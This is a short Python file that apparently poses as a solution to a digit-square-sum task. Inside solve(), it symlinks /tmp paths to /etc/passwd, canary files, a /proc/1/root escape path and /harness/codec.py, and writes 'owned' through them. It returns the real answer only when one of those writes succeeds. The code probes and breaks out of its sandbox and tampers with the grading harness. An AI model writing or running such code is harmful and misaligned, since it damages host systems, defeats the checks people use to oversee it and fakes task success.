import os

TARGETS = ("/etc/passwd", "/srv/CANARY", "/proc/1/root/srv/CANARY", "/../../srv/CANARY", "/harness/codec.py", "/usr/x")


def solve(n):
    written = []
    for i, target in enumerate(TARGETS):
        try:
            os.symlink(target, f"/tmp/link{n}-{i}")
            with open(f"/tmp/link{n}-{i}", "w") as file:
                file.write("owned")
            written.append(target)
        except OSError:
            pass
    print("written", written)
    return sum(int(c) ** 2 for c in str(n)) if written else -1
